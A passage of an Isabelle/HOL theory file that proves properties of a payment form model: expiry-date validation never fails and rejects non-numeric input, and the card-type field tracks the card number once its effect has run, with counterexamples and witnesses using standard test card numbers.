  a single \<open>/\<close> is invalid, fails: \<open>12/99/77\<close> has three segments and is valid.
\<close>

theorem C2_counterexample:
  "split 0x2F (str ''12/99/77'') = [str ''12'', str ''99'', str ''77'']
   \<and> isExpiryValid (\<lambda>t. t) 1793577600000 (str ''12/99/77'') = Inr True"
  using three_segments by (simp add: sampleEnv_def) (simp add: str_def)

lemma nan_date:
  "a = None \<or> b = None \<Longrightarrow>
   num_gt (newDate u (num_add (Some 2000) b) (num_sub a (Some 1)) 1) (Some n) = False"
  by (auto simp: num_gt_def num_add_def num_sub_def newDate_def split: option.splits)

text \<open>
  C10. \<open>isExpiryValid\<close> never throws: for every string it returns a boolean (the read of
  \<open>length\<close> is never reached with \<open>undefined\<close>). When one of the two segments does not
  parse to a number, as in \<open>ab/cd\<close>, the date is invalid, the comparison with the
  current moment is false and so is the result.
\<close>

theorem C10_isExpiryValid_total:
  "(\<exists>b. isExpiryValid u n e = Inr b)
   \<and> (element (split 0x2F e) 0 = Some m \<and> element (split 0x2F e) 1 = Some y
       \<and> (parseInt m = None \<or> parseInt y = None) \<longrightarrow>
        isExpiryValid u n e = Inr False)"
proof (intro conjI impI)
  show "\<exists>b. isExpiryValid u n e = Inr b" by (rule isExpiryValid_total)
next
  assume h: "element (split 0x2F e) 0 = Some m \<and> element (split 0x2F e) 1 = Some y
       \<and> (parseInt m = None \<or> parseInt y = None)"
  then have "isExpiryValid u n e =
     Inr (length m = 2 \<and> length y = 2
          \<and> num_gt (newDate u (num_add (Some 2000) (parseInt y)) (num_sub (parseInt m) (Some 1)) 1)
               (Some n))"
    by (simp add: isExpiryValid_segments)
  moreover have "num_gt (newDate u (num_add (Some 2000) (parseInt y))
      (num_sub (parseInt m) (Some 1)) 1) (Some n) = False"
    using h nan_date [of "parseInt m" "parseInt y" u n] by blast
  ultimately show "isExpiryValid u n e = Inr False" by simp
qed

theorem C10_isExpiryValid_total_witness:
  "parseInt (str ''ab'') = None \<and> parseInt (str ''cd'') = None
   \<and> isExpiryValid (\<lambda>t. t) 1793577600000 (str ''ab/cd'') = Inr False"
proof -
  have nan: "parseInt (str ''ab'') = None" "parseInt (str ''cd'') = None"
    by (simp_all add: parseInt_def str_def isWhiteSpace_def radixDigit_def Let_def)
  have segs: "element (split 0x2F (str ''ab/cd'')) 0 = Some (str ''ab'')"
    "element (split 0x2F (str ''ab/cd'')) 1 = Some (str ''cd'')"
    by (simp_all add: str_def)
  show ?thesis
    using C10_isExpiryValid_total [of "\<lambda>t. t" 1793577600000 "str ''ab/cd''" "str ''ab''"
        "str ''cd''"] nan segs
    by simp
qed

subsection \<open>The card type of the state\<close>

lemma handleSubmit_frame:
  "formData (fst (handleSubmit e p)) = formData p
   \<and> cardType (fst (handleSubmit e p)) = cardType p"
  by (cases "postResult e") (simp_all add: handleSubmit_def Let_def split: sum.splits)

lemma runEvents_snoc: "runEvents (evs @ [ev]) = step (runEvents evs) ev"
  by (simp add: runEvents_def)

lemma step_invariant:
  assumes "effectPending u \<or> cardTypeCurrent (page u)"
  shows "effectPending (step u ev) \<or> cardTypeCurrent (page (step u ev))"
proof (cases ev)
  case (Change name v)
  then show ?thesis using assms
    by (cases name) (auto simp: cardTypeCurrent_def handleChange_def)
next
  case RunEffect
  then show ?thesis using assms by (auto simp: cardTypeCurrent_def cardTypeEffect_def)
next
  case (Submit e)
  then show ?thesis using assms handleSubmit_frame [of e "page u"]
    by (auto simp: cardTypeCurrent_def)
qed

lemma runEvents_invariant:
  "effectPending (runEvents evs) \<or> cardTypeCurrent (page (runEvents evs))"
proof (induction evs rule: rev_induct)
  case Nil
  show ?case by (simp add: runEvents_def initialUi_def)
next
  case (snoc ev evs)
  then show ?case by (simp only: runEvents_snoc step_invariant)
qed

lemma change_then_effect:
  assumes "\<not> isSubmitting (page u)" "effectPending u \<or> cardTypeCurrent (page u)"
  shows "cardType (page (step (step u (Change CardNumber v)) RunEffect)) = getCardType v"
  using assms by (auto simp: cardTypeCurrent_def handleChange_def cardTypeEffect_def)

lemma getCardType_not_empty: "getCardType s \<noteq> []"
  by (simp add: getCardType_def Let_def Visa_def MasterCard_def AmericanExpress_def
      Discover_def Unknown_def str_def)

lemma step_before_effect:
  assumes "ev \<noteq> RunEffect" "cardType (page u) = [] \<and> effectPending u"
  shows "cardType (page (step u ev)) = [] \<and> effectPending (step u ev)"
proof (cases ev)
  case (Change name v)
  then show ?thesis using assms(2) by (simp add: handleChange_def)
next
  case RunEffect
  then show ?thesis using assms(1) by simp
next
  case (Submit e)
  then show ?thesis using assms(2) handleSubmit_frame [of e "page u"] by simp
qed

lemma runEvents_before_effect:
  "RunEffect \<notin> set evs \<Longrightarrow>
   cardType (page (runEvents evs)) = [] \<and> effectPending (runEvents evs)"
proof (induction evs rule: rev_induct)
  case Nil
  show ?case by (simp add: runEvents_def initialUi_def initialPage_def)
next
  case (snoc ev evs)
  then have "ev \<noteq> RunEffect" and "cardType (page (runEvents evs)) = [] \<and> effectPending (runEvents evs)"
    by auto
  then show ?case unfolding runEvents_snoc by (rule step_before_effect)
qed

text \<open>
  C7, as amended. The card type of the state is the empty string until the card-type
  effect has run for the first time: in every state reached by events none of which is a
  run of the effect, it is the empty string, a run of the effect is due, and the card
  type differs from \<open>getCardType\<close> of the current card number. In every state that a sequence of events reaches
  and in which no run of the effect is due, the card type of the state is \<open>getCardType\<close>
  of the current card number, and this is the value that the checks of \<open>handleSubmit\<close>
  read. After a change of the card number and the run of the effect, the card type is
  that of the most recent card number only.
\<close>

theorem C7_cardType_current:
  "(effectPending (runEvents evs) = False \<longrightarrow>
      cardType (page (runEvents evs)) = getCardType (cardNumber (formData (page (runEvents evs))))
      \<and> handleSubmit e (page (runEvents evs)) = handleSubmit e (cardTypeEffect (page (runEvents evs))))
   \<and> (isSubmitting (page (runEvents evs)) = False \<longrightarrow>
      cardType (page (runEvents (evs @ [Change CardNumber v, RunEffect]))) = getCardType v)
   \<and> (RunEffect \<notin> set evs \<longrightarrow>
      cardType (page (runEvents evs)) = []
      \<and> effectPending (runEvents evs) = True
      \<and> cardType (page (runEvents evs))
          \<noteq> getCardType (cardNumber (formData (page (runEvents evs)))))"
proof (intro conjI impI)
  assume "RunEffect \<notin> set evs"
  then have before: "cardType (page (runEvents evs)) = [] \<and> effectPending (runEvents evs)"
    by (rule runEvents_before_effect)
  then show "cardType (page (runEvents evs)) = []"
    and "effectPending (runEvents evs) = True"
    by simp_all
  from before show "cardType (page (runEvents evs))
      \<noteq> getCardType (cardNumber (formData (page (runEvents evs))))"
    using getCardType_not_empty [of "cardNumber (formData (page (runEvents evs)))"] by simp
next
  assume "effectPending (runEvents evs) = False"
  then have cur: "cardTypeCurrent (page (runEvents evs))"
    using runEvents_invariant [of evs] by simp
  then show "cardType (page (runEvents evs))
      = getCardType (cardNumber (formData (page (runEvents evs))))"
    by (simp add: cardTypeCurrent_def)
  from cur have "cardTypeEffect (page (runEvents evs)) = page (runEvents evs)"
    by (simp add: cardTypeCurrent_def cardTypeEffect_def)
  then show "handleSubmit e (page (runEvents evs))
      = handleSubmit e (cardTypeEffect (page (runEvents evs)))"
    by simp
next
  assume "isSubmitting (page (runEvents evs)) = False"
  then have "cardType (page (step (step (runEvents evs) (Change CardNumber v)) RunEffect))
      = getCardType v"
    using runEvents_invariant [of evs] by (intro change_then_effect) simp_all
  then show "cardType (page (runEvents (evs @ [Change CardNumber v, RunEffect]))) = getCardType v"
    by (simp add: runEvents_def)
qed

lemma getCardType_samples:
  "getCardType (str ''4111111111111111'') = Visa"
  "getCardType (str ''5500000000000004'') = MasterCard"
  by (simp_all add: getCardType_refines spec_detectCardType_def spec_visa_def
      spec_mastercard_def starts_with_def str_def isDigit_def card_types_distinct)

theorem C7_cardType_current_witness:
  "effectPending (runEvents [Change CardNumber (str ''4111111111111111''), RunEffect]) = False
   \<and> isSubmitting (page (runEvents [Change CardNumber (str ''4111111111111111''), RunEffect]))
       = False
   \<and> cardType (page (runEvents [Change CardNumber (str ''4111111111111111''), RunEffect])) = Visa
   \<and> cardType (page (runEvents ([Change CardNumber (str ''4111111111111111''), RunEffect]
         @ [Change CardNumber (str ''5500000000000004''), RunEffect]))) = MasterCard
   \<and> cardType (page (runEvents [Change CardNumber (str ''4111111111111111'')])) = []
   \<and> effectPending (runEvents [Change CardNumber (str ''4111111111111111'')]) = True"
proof -
  let ?evs = "[Change CardNumber (str ''4111111111111111''), RunEffect]"
  have before: "cardType (page (runEvents [Change CardNumber (str ''4111111111111111'')])) = []
      \<and> effectPending (runEvents [Change CardNumber (str ''4111111111111111'')]) = True"
    using C7_cardType_current [of "[Change CardNumber (str ''4111111111111111'')]" sampleEnv
        "str ''5500000000000004''"]
    by simp
  have pending: "effectPending (runEvents ?evs) = False"
    and editable: "isSubmitting (page (runEvents ?evs)) = False"
    and number: "cardNumber (formData (page (runEvents ?evs))) = str ''4111111111111111''"
    by (simp_all add: runEvents_def initialUi_def initialPage_def handleChange_def
        cardTypeEffect_def)
  show ?thesis
    using C7_cardType_current [of ?evs sampleEnv "str ''5500000000000004''"]
      pending editable number getCardType_samples before
    by simp
qed

text \<open>
  The claim as stated, for every reachable state, fails in the initial state: the card
  type is the empty string there, and \<open>getCardType\<close> of the empty card number is
  \<open>Unknown\<close>.
\<close>

theorem C7_counterexample:
  "cardType (page (runEvents [])) = []
   \<and> getCardType (cardNumber (formData (page (runEvents [])))) = Unknown
   \<and> cardType (page (runEvents [])) \<noteq> getCardType (cardNumber (formData (page (runEvents []))))"
  by (simp add: runEvents_def initialUi_def initialPage_def getCardType_def strip_non_digits_def
      test_def visa_re_def mastercard_re_def amex_re_def discover_re_def)
     (simp add: Unknown_def str_def)

end
